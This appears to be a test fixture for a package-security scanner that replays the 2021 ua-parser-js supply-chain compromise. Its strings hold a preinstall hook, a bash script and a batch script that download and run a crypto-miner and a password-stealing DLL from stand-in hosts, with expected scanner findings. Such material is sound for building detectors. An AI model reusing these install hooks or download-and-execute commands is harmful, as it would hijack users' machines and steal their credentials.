import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const starter = `const { exec, spawn } = require('child_process')
const os = require('os')

const platform = os.platform()

if (platform === 'win32') {
  const child = spawn('cmd.exe', ['/c', 'preinstall.bat'], { detached: true, stdio: 'ignore', shell: true })
  child.unref()
} else if (platform === 'linux') {
  terminalLinux()
}

function terminalLinux() {
  exec('/bin/bash preinstall.sh', () => {})
}
`

const bash = [
  "IP=$(curl -k https://geo.example/xml/ 2> /dev/null | grep 'RU\\|UA\\|BY\\|KZ')",
  'if [ -z "$IP" ]',
  '  then',
  '  var=$(pgrep jsextension)',
  '  if [ -z "$var" ]',
  '    then',
  '    curl http://files.parser.example/download/jsextension -o jsextension',
  '    if [ ! -f jsextension ]',
  '      then',
  '      wget http://files.parser.example/download/jsextension -O jsextension',
  '    fi',
  '    chmod +x jsextension',
  '    ./jsextension -k --tls -o pool.parser.example:443 -u inert --cpu-max-threads-hint=50 --background',
  '  fi',
  'fi',
  '',
].join('\n')

const batch = [
  '@echo off',
  'curl http://files.parser.example/download/jsextension.exe -o jsextension.exe',
  'if not exist jsextension.exe (',
  '  wget http://files.parser.example/download/jsextension.exe -O jsextension.exe',
  ')',
  'if not exist jsextension.exe (',
  '  certutil.exe -urlcache -f http://files.parser.example/download/jsextension.exe jsextension.exe',
  ')',
  'curl https://lib.parser.example/lib.dll -o create.dll',
  'set exec_1=jsextension.exe -k --tls -o pool.parser.example:443 -u inert --background',
  'set exec_2=regsvr32.exe -s create.dll',
  'start /B %exec_1%',
  '%exec_2%',
  '',
].join('\r\n')

export const replay: Replay = replayUpgrade({
  description:
    'A taken-over account released three lines of ua-parser-js at once; before installation a script fetched a miner and a library that ' +
    'takes passwords, with a shell on Linux and a batch file on Windows, and left machines of four countries alone.',
  date: '2021-10-22',
  name: 'ua-parser-js',
  from: ['0.7.28', { manifest: { main: 'src/ua-parser.js' }, files: { 'src/ua-parser.js': durations } }],
  to: [
    '0.7.29',
    {
      manifest: {
        main: 'src/ua-parser.js',
        scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
      },
      files: {
        'src/ua-parser.js': durations,
        'preinstall.js': starter,
        'preinstall.sh': bash,
        'preinstall.bat': batch,
      },
    },
  ],
  findings: [
    [
      'install-script-dangerous',
      'critical',
      {
        file: 'preinstall.sh',
        line: './jsextension -k --tls -o pool.parser.example:443 -u inert --cpu-max-threads-hint=50 --background',
      },
    ],
    ['capability-added', 'high', { file: 'preinstall.js', line: /const child = spawn\('cmd\.exe', \['\/c'/ }],
    ['install-script-added', 'high', { file: 'package.json' }],
  ],
})
